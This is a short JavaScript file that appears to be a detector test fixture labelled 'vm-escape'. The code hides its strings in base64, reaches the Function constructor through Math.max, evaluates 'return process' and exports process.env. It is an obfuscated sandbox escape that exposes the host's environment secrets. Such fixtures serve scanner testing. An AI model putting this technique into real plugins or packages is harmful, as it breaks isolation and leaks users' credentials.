// expect: category=vm-escape min=100 context=plugin,package
// why: a memoised lookup decodes base64 table entries on first use; the climb uses the results.
const cache = Object.create(null);
const table = 'Y29uc3RydWN0b3I=|cmV0dXJuIHByb2Nlc3M=|ZW52'.split('|');

function s(i) {
  if (!(i in cache)) {
    cache[i] = atob(table[i]);
  }
  return cache[i];
}

function hop(value) {
  return value[s(0)];
}

const host = hop(hop(Math.max))(s(1))();
export const vars = host[s(2)];
